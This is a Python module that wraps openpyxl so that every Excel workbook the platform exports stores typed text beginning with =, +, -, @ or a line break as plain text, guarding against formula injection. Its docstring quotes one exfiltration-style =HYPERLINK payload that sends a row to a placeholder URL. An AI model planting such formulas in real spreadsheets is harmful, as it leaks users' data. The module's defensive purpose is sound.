"""Every Excel workbook the platform writes is made here, so that no text a person typed
opens as a formula.

openpyxl writes any text starting with "=" as a live formula: a case titled
=HYPERLINK("http://…"&A1,"点击查看") would become, in the township's export, a link that
sends the row away when clicked. Excel also takes text starting with "+", "-" or "@", or
with a tab or a line break before it, for a formula as soon as someone edits the cell
(OWASP, "CSV injection"). Such text is written here as a text cell with Excel's quote prefix,
the mark Excel itself gives text typed after an apostrophe: it shows exactly as typed, with
nothing prepended, and stays text when edited. Text that reads as an error code ("#N/A") is
kept as text too.

Writers take `Workbook` from here, never from openpyxl, and put values in cells only through
its sheets' `append` (or `cell`, or `sheet["A1"] = …`), which all go through `as_text`;
tests/security/test_security_findings_exports.py checks every module for it."""

from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO
from typing import Any

import openpyxl
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl.cell.cell import ERROR_CODES, Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# OWASP's list, and the line feed: XML reads a carriage return as one.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
BOLD = Font(bold=True)


def reads_as_formula(value: object) -> bool:
    return isinstance(value, str) and (value.startswith(FORMULA_LEADS) or value in ERROR_CODES)


def as_text(cell: Cell) -> Cell:
    """`cell`, its text kept as text if Excel would read it as a formula or an error."""
    if reads_as_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def styled(sheet, value: Any, *, font: Font | None = None) -> Cell:
    """A cell with a style of its own (a bold header…), appended as part of a row."""
    cell = as_text(Cell(sheet, row=1, column=1, value=value))  # openpyxl's WriteOnlyCell
    if font is not None:
        cell.font = font
    return cell


def bold_row(sheet, values: Iterable[Any]) -> list[Cell]:
    return [styled(sheet, str(value), font=BOLD) for value in values]


def text_safe(sheet, values: Iterable[Any]) -> list[Any]:
    """A row to append: each value that reads as a formula becomes a text cell."""
    return [_text_safe(sheet, value) for value in values]


def _text_safe(sheet, value: Any) -> Any:
    if isinstance(value, Cell):
        return as_text(value)
    return styled(sheet, value) if reads_as_formula(value) else value


class TextSafeWorksheet(Worksheet):
    def append(self, iterable: Iterable[Any]) -> None:
        if isinstance(iterable, dict):
            raise TypeError("Append a row as a list of values.")
        super().append(text_safe(self, iterable))

    def cell(self, row: int, column: int, value: Any = None) -> Cell:
        cell = super().cell(row, column)
        if value is not None:
            cell.value = value
        return as_text(cell)

    def __setitem__(self, key: str, value: Any) -> None:
        cell = self[key]
        cell.value = value
        as_text(cell)


class TextSafeWriteOnlyWorksheet(WriteOnlyWorksheet):
    def append(self, row: Iterable[Any]) -> None:
        super().append(text_safe(self, row))


class Workbook(openpyxl.Workbook):
    """openpyxl's workbook, streaming (write_only=True) or not, whose sheets write text that
    reads as a formula as text."""

    def __init__(self, write_only: bool = False) -> None:
        super().__init__(write_only=write_only)
        if not write_only:  # the sheet every new workbook starts with
            self.remove(self.active)
            self.create_sheet()

    def create_sheet(self, title: str | None = None, index: int | None = None):
        kind = TextSafeWriteOnlyWorksheet if self.write_only else TextSafeWorksheet
        sheet = kind(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)  # what openpyxl's own create_sheet does
        return sheet


def workbook_bytes(workbook: openpyxl.Workbook) -> bytes:
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


HEADER_FOOTER_MAX = 250  # Excel refuses a printed header or footer past 255 characters


def watermark(*, user, reason: str) -> str:
    return _(
        "Exported by %(name)s (%(username)s) at %(time)s for: %(reason)s — for official use "
        "only, do not pass on"
    ) % {
        "name": str(user),
        "username": user.username,
        "time": timezone.localtime().strftime("%Y-%m-%d %H:%M"),
        "reason": reason,
    }


def date_text(value) -> str:
    return value.isoformat() if value else ""


def watermarked_workbook(*, title: str, mark: str, user, headers: list[str], widths: list[int]):
    workbook = Workbook(write_only=True)
    workbook.properties.creator = user.username
    workbook.properties.title = title
    workbook.properties.description = mark
    sheet = workbook.create_sheet(title)
    printed = mark if len(mark) <= HEADER_FOOTER_MAX else mark[: HEADER_FOOTER_MAX - 1] + "…"
    printed = printed.replace("&", "&&")  # & starts a control code in headers and footers
    sheet.oddHeader.center.text = printed
    sheet.oddFooter.center.text = printed
    sheet.oddFooter.right.text = "&P / &N"
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.append([styled(sheet, mark, font=Font(bold=True, color="B42318"))])
    sheet.append([])
    sheet.append(bold_row(sheet, headers))
    return workbook, sheet
